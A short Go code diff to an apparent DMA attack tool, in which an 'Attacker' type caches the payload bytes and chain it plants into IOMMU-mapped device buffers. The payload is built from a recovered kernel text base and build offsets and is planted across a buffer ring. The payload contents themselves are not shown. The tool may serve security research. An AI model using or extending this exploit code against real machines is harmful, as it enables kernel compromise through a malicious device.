@@ -33,6 +33,13 @@ type Attacker struct {
 
 	// Stats.
 	WordsScanned, PagesScanned int
+
+	// plant caches the payload bytes PlantUbufAndChain writes, for the text
+	// base and build they were rendered from: a RingFlood plants the same
+	// bytes into every buffer of the ring.
+	plant      []byte
+	plantBase  layout.Addr
+	plantBuild kexec.BuildOffsets
 }
 
 // NewAttacker builds an attacker for the given requester ID. symbols and
@@ -172,11 +179,17 @@ func (a *Attacker) PayloadBytes() ([]byte, error) {
 // step — everything is expressed in the buffer's own IOVA space and in
 // recovered text addresses.
 func (a *Attacker) PlantUbufAndChain(bufIOVA iommu.IOVA) error {
-	payload, err := a.PayloadBytes()
+	base, err := a.Infer.TextBase()
 	if err != nil {
-		return err
+		return fmt.Errorf("device: text base not recovered yet: %w", err)
 	}
-	if err := a.Bus.Write(a.Dev, bufIOVA+UbufPlantOffset, payload); err != nil {
+	if a.plant == nil || base != a.plantBase || a.Build != a.plantBuild {
+		if a.plant, err = a.PayloadBytes(); err != nil {
+			return err
+		}
+		a.plantBase, a.plantBuild = base, a.Build
+	}
+	if err := a.Bus.Write(a.Dev, bufIOVA+UbufPlantOffset, a.plant); err != nil {
 		return fmt.Errorf("device: planting ubuf+chain: %w", err)
 	}
 	return nil
